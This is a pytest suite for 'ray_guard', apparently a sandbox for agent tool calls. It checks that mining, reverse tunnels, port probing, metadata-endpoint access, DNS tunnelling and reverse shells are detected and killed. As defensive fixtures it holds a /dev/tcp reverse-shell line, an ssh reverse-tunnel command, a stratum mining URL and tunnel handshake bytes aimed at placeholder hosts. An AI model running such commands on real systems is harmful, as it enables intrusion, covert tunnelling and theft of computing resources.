"""Findings live: what a call does is recognised while it does it, told on its spans, and ends it where asked for."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator, Mapping
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from harness import wait

from ray_guard.evidence.otlp import decode
from ray_guard.records import SpanRecord

pytestmark = pytest.mark.kernel

_PROGRAM = """
import json, subprocess, sys
import ray_guard
detect, calls, held = (json.loads(each) for each in sys.argv[1:])
allow = detect.pop("allow", ["example.org:80"])
ray_guard.confine({"egress": {"allow": allow}, "budgets": {"call": {"egress_bytes": "1MiB"}}, "detect": detect})
said = {}

def call(name):
    with ray_guard.tool_call("bash"):
        tool = ray_guard.Popen(calls[name], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        if name in held:
            print(json.dumps(name), flush=True)
            if not sys.stdin.readline().strip():
                tool.wait(120)  # it ends by being ended
        return [tool.communicate("go\\n", timeout=60)[0].strip(), tool.returncode]

try:
    with ray_guard.episode(id="first"):
        for name in calls:
            try:
                said[name] = call(name)
            except ray_guard.RayGuardError as error:
                said[name] = str(error)
        said["violations"] = sorted({each["reason"] for each in ray_guard.violations() if each["kind"] == "detection"})
except ray_guard.RayGuardError as error:
    said["episode"] = str(error)
print(json.dumps(said))
"""
_WAITS = "\nsys.stdin.readline(); print('done')"
_CONNECTS = """
import socket, sys
for address, port in {}:
    with socket.socket() as sock:
        sock.setblocking(False)
        sock.connect_ex((address, port))"""
_ASKS = """
import secrets, socket, sys
try:
    socket.getaddrinfo(secrets.token_hex(24) + ".x.example.net", 80)
except OSError:
    pass"""


def _python(text: str) -> list[str]:
    return [sys.executable, "-I", "-S", "-c", text + _WAITS]


_SHELL = "bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'"
_GOES_ON = "read line; echo done"
_KINDS = ("mining", "reverse_tunnel", "probing", "metadata", "dns_tunnel", "reverse_shell")
_ORDINARY = {
    "a few ports": _python(_CONNECTS.format([("192.0.2.1", port) for port in range(9000, 9005)])),
    "a shell": ["/bin/sh", "-c", "read line; ls / >/dev/null; echo done"],
}


def _offending(folder: Path) -> dict[str, list[str]]:
    """Calls that wait for a line and then print ``done``, unless somebody ends them."""
    miner = folder / "work" / "xmrig"
    miner.parent.mkdir()
    miner.write_text(f"#!/bin/sh\n{_GOES_ON}\n")
    miner.chmod(0o755)
    addresses = [("192.0.2.1", port) for port in range(9000, 9020)]
    return {
        "mining": [str(miner), "-o", "stratum+tcp://pool.example:3333"],
        "reverse_tunnel": [
            "/bin/sh",
            "-c",
            "ssh -o BatchMode=yes -NR 2222:localhost:22 u@192.0.2.1; read line; echo done",
        ],
        "probing": _python(_CONNECTS.format(addresses)),
        "metadata": _python(_CONNECTS.format([("169.254.170.2", 80)])),
        "dns_tunnel": _python(_ASKS),
        # beyond what is recorded of a command line
        "reverse_shell": ["/bin/sh", "-c", f": {'x' * 3000}; false && {_SHELL}; {_GOES_ON}"],
    }


class _Guarded:
    """The program above."""

    def __init__(self, folder: Path, detect: Mapping[str, list[str]], calls: dict[str, list[str]]) -> None:
        self.evidence = folder / "evidence"
        (folder / "work").mkdir(exist_ok=True)
        self.process = subprocess.Popen(
            [sys.executable, "-c", _PROGRAM, json.dumps(detect), json.dumps(calls), json.dumps(list(_KINDS))],
            env={**os.environ, "RAY_GUARD_EVIDENCE": str(self.evidence)}, cwd=folder / "work",
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip

    def says(self) -> Any:
        assert self.process.stdout is not None
        return json.loads(self.process.stdout.readline())

    def tell(self, line: str) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(line + "\n")
        self.process.stdin.flush()

    def spans(self) -> list[SpanRecord]:
        lines = [line for path in sorted(self.evidence.glob("*.otlp.jsonl")) for line in path.read_bytes().split(b"\n")]
        return [span for line in lines if line.endswith(b"}") for _, span in decode(line)]

    def has_found(self, kind_or_rule: str) -> bool:
        return kind_or_rule in self.found() | self.found("rule")

    def found(self, what: str = "kind") -> set[str]:
        """The kinds, or rules, that the journal tells of."""
        return {
            str(s.attributes[f"ray_guard.detection.{what}"]) for s in self.spans() if s.name == "ray_guard.detection"
        }


@contextlib.contextmanager
def _guarded(*arguments: Any) -> Iterator[_Guarded]:
    program = _Guarded(*arguments)
    try:
        yield program
    finally:
        program.process.kill()
        program.process.communicate()


def test_what_a_call_does_is_told_on_its_spans(tmp_path: Path) -> None:
    """The control of the next one: the same calls, none of which is ended."""
    calls = _offending(tmp_path)
    with _guarded(tmp_path, {"tag": ["all"]}, {**calls, **_ORDINARY}) as program:
        for kind in calls:
            assert program.says() == kind
            wait(partial(program.has_found, kind), f"{kind} is not found", 60)
            program.tell("go on")
        said = program.says()
        assert said == {**{name: ["done", 0] for name in (*calls, *_ORDINARY)}, "violations": []}
        assert program.found() == set(calls)
        spans = [
            span
            for span in program.spans()
            if span.end_ns is not None and "ray_guard.detection.kind" in span.attributes
        ]
        told = [span for span in spans if span.name == "execute_tool bash"]
        assert {str(span.attributes["ray_guard.detection.kind"]) for span in told} == set(calls)
        assert {event.name for span in told for event in span.events} >= {"ray_guard.detection"}
        argv = [sys.executable, "-m", "ray_guard.cli", "detect", "--traces", str(program.evidence)]
        lines = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=60).stdout.splitlines()
        assert {json.loads(line)["kind"] for line in lines} == {*calls} - {"reverse_shell"}  # of the evidence alone
        processes = {span.name for span in spans if span.name.startswith("process ")}
        assert {"process xmrig", "process sh"} <= processes


def test_a_call_is_ended_for_what_it_does(tmp_path: Path) -> None:
    calls = _offending(tmp_path)
    with _guarded(tmp_path, {"kill_call": ["all"]}, {**calls, **_ORDINARY}) as program:
        for kind in calls:
            assert program.says() == kind
            program.tell("")
        said = program.says()
        assert {name: said[name] for name in _ORDINARY} == {name: ["done", 0] for name in _ORDINARY}
        for kind in calls:
            assert f"detection: {kind}: " in said[kind], said
        assert {reason.partition(":")[0] for reason in said["violations"]} == set(calls)


@pytest.mark.parametrize("action", ["violation", "end_episode", "kill_actor"])
def test_what_follows_is_the_policys_to_say(tmp_path: Path, action: str) -> None:
    calls = {"mining": _offending(tmp_path)["mining"], "a shell": _ORDINARY["a shell"]}
    with _guarded(tmp_path, {"tag": ["all"], action: ["mining"]}, calls) as program:
        if action == "kill_actor":
            assert program.process.wait(60) == -signal.SIGKILL
            return
        assert program.says() == "mining"
        wait(partial(program.has_found, "mining"), "it is not found", 60)
        program.tell("go on" if action == "violation" else "")
        said = program.says()
    offence = "mining: mining.stratum_url"
    if action == "violation":
        assert said == {"mining": ["done", 0], "a shell": ["done", 0], "violations": [offence]}
    else:
        assert {offence in said[name] for name in ("mining", "a shell", "episode")} == {True}, said


_SPEAKS = """
import socket, sys
sock = socket.create_connection(("127.0.0.1", {}))
sock.sendall(bytes(byte ^ 255 for byte in {!r}))"""
_FIRST_BYTES = {
    "mining": (b'{"id": "1", "params": ["x/1"], "method" : "mining.subscribe"}\n', "flow.stratum"),
    "reverse_tunnel": (
        b"GET / HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n",
        "payload.websocket_tunnel",
    ),
}


@pytest.mark.parametrize("action", ["tag", "kill_call"])
def test_first_bytes_are_judged_while_the_flow_is_open(tmp_path: Path, action: str) -> None:
    """The far side holds every connection open; with ``tag``, the control, each call goes on to its end."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        ordinary = b"GET / HTTP/1.1\r\nHost: h\r\n\r\n"
        said_by = {**{kind: said for kind, (said, _rule) in _FIRST_BYTES.items()}, "metadata": ordinary}
        # Turned over: of the command line nobody can tell what will be said.
        calls = {
            kind: _python(_SPEAKS.format(port, bytes(byte ^ 255 for byte in said))) for kind, said in said_by.items()
        }
        held = []
        detect = {action: ["all"], "allow": [f"tcp://127.0.0.1:{port}"]}
        with _guarded(tmp_path, detect, calls) as program:
            for kind, (said, rule) in _FIRST_BYTES.items():
                assert program.says() == kind
                held.append(server.accept()[0])
                assert held[-1].recv(len(said), socket.MSG_WAITALL) == said
                if action == "tag":
                    wait(partial(program.has_found, rule), f"{kind} is not found while it is open", 60)
                program.tell("go on" if action == "tag" else "")
            assert program.says() == "metadata"
            held.append(server.accept()[0])
            program.tell("go on")
            said_last = program.says()
        for each in held:
            each.close()
    assert said_last["metadata"] == ["done", 0]
    for kind, (_said, rule) in _FIRST_BYTES.items():
        if action == "tag":
            assert said_last[kind] == ["done", 0]
        else:
            assert f"detection: {kind}: {rule}" in said_last[kind]


def test_a_judge_that_is_killed_leaves_nothing_unjudged(tmp_path: Path) -> None:
    calls = {"probing": _ORDINARY["a shell"], "mining": _offending(tmp_path)["mining"]}
    with _guarded(tmp_path, {"kill_call": ["mining"]}, calls) as program:
        assert program.says() == "probing"
        for pid in wait(_judges, "there is no judge", 60):
            os.kill(pid, signal.SIGKILL)
        program.tell("go on")
        assert program.says() == "mining"
        program.tell("")
        said = program.says()
        assert said["probing"] == ["done", 0]
        assert "detection: mining: " in said["mining"]


@pytest.mark.slow
def test_a_call_that_nobody_judges_does_not_go_on(tmp_path: Path) -> None:
    """The judge stands still: ten seconds later nobody knows what its calls do."""
    calls = {"probing": _ORDINARY["a shell"], "mining": _ORDINARY["a shell"]}
    with _guarded(tmp_path, {"kill_call": ["mining"]}, calls) as program:
        assert program.says() == "probing"
        for pid in wait(_judges, "there is no judge", 60):
            os.kill(pid, signal.SIGSTOP)
        program.tell("go on")
        assert program.says() == "mining"
        program.tell("")
        said = program.says()
        assert said["probing"] == ["done", 0]
        assert said["mining"] == "detection: unjudged: the judge makes no headway"


def _judges() -> list[int]:
    """Whoever's they are: each is started again."""
    found = []
    for path in Path("/proc").glob("[0-9]*/comm"):
        with contextlib.suppress(OSError):
            if path.read_text().strip() == "ray-guard-judge":
                found.append(int(path.parent.name))
    return found


_RULE = """
title: widgets
logsource: {category: process_creation, product: linux}
detection:
  selection: {CommandLine|contains: frobnicate}
  condition: selection
"""


def test_sigma_rules_of_the_policys(tmp_path: Path) -> None:
    rule = tmp_path / "rule.yml"
    rule.write_text(_RULE)
    calls = {"mining": ["/bin/sh", "-c", f": frobnicate; {_GOES_ON}"], **_ORDINARY}
    with _guarded(tmp_path, {"kill_call": ["other"], "rules": [str(rule)]}, calls) as program:
        assert program.says() == "mining"
        program.tell("")
        said = program.says()
        assert "detection: other: sigma.widgets" in said["mining"]
        assert {name: said[name] for name in _ORDINARY} == {name: ["done", 0] for name in _ORDINARY}
    rule.write_text("title: [")
    with _guarded(tmp_path, {"tag": ["all"], "rules": [str(rule)]}, calls) as program:
        _, complaint = program.process.communicate(timeout=60)
        assert program.process.returncode != 0
        assert "detect.rules" in complaint
        assert str(rule) in complaint
